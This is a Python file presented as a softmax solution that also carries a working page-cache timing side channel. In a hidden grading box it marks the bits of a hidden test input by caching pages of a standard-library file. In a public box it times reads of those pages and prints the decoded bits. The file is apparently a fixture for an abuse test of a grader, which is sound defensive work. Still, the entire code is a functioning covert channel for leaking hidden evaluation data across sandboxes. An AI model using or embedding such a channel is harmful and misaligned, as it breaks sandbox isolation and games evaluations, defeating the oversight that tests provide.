"""The page-cache channel: one box marks pages of a file, another times reading them.

A softmax solution that also attacks. Reading a page of a file brings it into the host's page
cache, and reading it again is then about ten times faster. In its hidden box (inputs that no
public example holds) it marks the bits of the first hidden input it gets on pages of a
standard-library file that nothing else reads; in a public box it times a one-byte read of
each of those pages and prints what it decodes, which the learner would see.
tests/abuse/test_page_cache.py writes its own settings over the three below.
"""
import json
import math
import os
import random
import time

# MODE: write | read | evict | both (mark in the hidden box, read in the public one)
MODE = "read"
FIRST_PAGE = 40
PUBLIC_ROWS = []
BITS = 64
PAGE = 4096
STRIDE = 2  # one page between bits, and bits read out of order: nothing for read-ahead to guess
ORDER = random.Random(BITS).sample(range(BITS), BITS)
FAST_NS = 25_000  # a cached page comes back within a few microseconds, a missing one in 40+
TARGET = os.path.join(os.path.dirname(os.__file__), "pydoc_data", "topics.py")
acted = False


def secret_bits(row):
    """Return the first eight bytes of the input's JSON as bits."""
    text = json.dumps(row).encode()[:BITS // 8].ljust(BITS // 8)
    return "".join(f"{byte:08b}" for byte in text)


def target():
    fd = os.open(TARGET, os.O_RDONLY)
    os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_RANDOM)  # no read-ahead: one page per read
    return fd


def offset(i):
    return (FIRST_PAGE + STRIDE * i) * PAGE


def mark(bits):
    fd = target()
    for i in ORDER:
        if bits[i] == "1":
            os.pread(fd, 1, offset(i))
    os.close(fd)


def evict():
    fd = target()
    os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_DONTNEED)
    os.close(fd)


def read():
    fd = target()
    os.pread(fd, 1, 0)  # warm the call up on a page outside the bits
    seen = ["0"] * BITS
    for i in ORDER:
        started = time.perf_counter_ns()
        os.pread(fd, 1, offset(i))
        seen[i] = "1" if time.perf_counter_ns() - started < FAST_NS else "0"
    os.close(fd)
    evict()  # reading cached them: leave them as they were for the next attempt
    print("decoded:" + "".join(seen))


def act(row):
    public = row in PUBLIC_ROWS
    if public and MODE == "evict":
        evict()
    elif public and MODE == "read":
        read()
    elif public and MODE == "both":
        time.sleep(1.5)  # the hidden box of the same submission marks meanwhile, if it runs
        read()
    elif not public and MODE in ("write", "both"):
        mark(secret_bits(row))
    else:
        return False
    return True


def softmax(row):
    global acted
    if not acted:
        acted = act(row)
    top = max(row)
    exps = [math.exp(x - top) for x in row]
    total = sum(exps)
    return [e / total for e in exps]
